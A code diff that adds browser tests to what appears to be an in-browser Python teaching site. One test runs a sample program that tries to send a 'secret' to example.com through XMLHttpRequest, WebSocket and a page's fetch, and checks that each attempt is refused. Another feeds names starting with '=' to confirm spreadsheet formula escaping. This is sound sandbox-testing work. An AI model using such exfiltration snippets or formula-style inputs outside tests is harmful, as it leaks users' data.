@@ -255,6 +255,57 @@ def link(site: Site) -> None:
     print(f"  a link of {len(address.partition('#')[2])} letters")
 
 
+LEAK = """
+import js
+for send in (lambda: js.XMLHttpRequest.new(), lambda: js.WebSocket.new("wss://example.com")):
+    try:
+        request = send()
+        request.open("GET", "https://example.com/?secret", False)
+        request.send()
+        print("it was sent")
+    except BaseException as error:
+        print("refused:", type(error).__name__)
+open("page.html", "w").write("<body>before<script>try { localStorage.x = 1; document.body.append(' kept') }"
+    " catch { document.body.append(' refused') } fetch('https://example.com/?secret').then("
+    "() => document.body.append(' sent'), () => document.body.append(' refused'))</script>")
+"""
+
+
+def sealed(site: Site) -> None:
+    """A program reaches no other place, and neither does a page that it writes, which sees nothing of the reader's work."""
+    site.open("playground.html")
+    site.put(LEAK)
+    site.press("Run")
+    text = site.page.locator(".live-results .live-text").first.inner_text()
+    check(text.split() == ["refused:", "JsException"] * 2, text)
+    body = site.page.locator(".live-results iframe").content_frame.locator("body")
+    body.get_by_text("before refused refused").wait_for()
+    print("  XMLHttpRequest, WebSocket, a frame's fetch and its storage: refused")
+
+
+def classroom(site: Site) -> None:
+    """A learner's score is a file, and the teacher's page makes a table of the files of thirty."""
+    page = site.open("course.html")
+    page.get_by_placeholder("Your name").fill("Ada")
+    with page.expect_download() as saved:
+        seconds = site.press("Score")
+    score = json.loads(Path(saved.value.path()).read_text(encoding="utf-8"))
+    check(score["learner"] == "Ada" and score["of"] == len(score["tasks"]), str(score)[:200])
+    with tempfile.TemporaryDirectory() as folder:
+        files = [Path(folder) / f"{i}.json" for i in range(30)]
+        for i, path in enumerate(files):
+            path.write_text(json.dumps({**score, "learner": f"=learner {i}", "seed": i}), encoding="utf-8")
+        page = site.open("teaching.html")
+        page.locator(".live-drop input").set_input_files(files)
+        page.locator(".live-table tbody tr").nth(29).wait_for()
+        with page.expect_download() as table:
+            page.get_by_role("button", name="Save the table").click()
+        rows = Path(table.value.path()).read_text(encoding="utf-8-sig").splitlines()
+    check(rows[0].startswith("learner,seed,task,state") and len(rows) == 1 + 30 * score["of"], f"{len(rows)} rows")
+    check(all(row.startswith("'=learner") for row in rows[1:]), "a name that begins like a formula")
+    print(f"  the score of {score['of']} answers in {seconds:.1f} s with Python's start; 30 files: {len(rows)} rows")
+
+
 def ready(site: Site) -> None:
     """Python is there in under 8 s from a warm cache, and the lessons load less than 25 MB."""
     for name, what in (("playground.html", "numpy"), ("course/01_nudging.html", "with Matplotlib")):
@@ -267,7 +318,7 @@ def ready(site: Site) -> None:
 
 
 PARTS: dict[str, Callable[[Site], None]] = {
-    part.__name__: part for part in (ready, learner, loop, link, drawing, capstone, lessons, frozen)
+    part.__name__: part for part in (ready, learner, loop, link, sealed, drawing, classroom, capstone, lessons, frozen)
 }
 
 
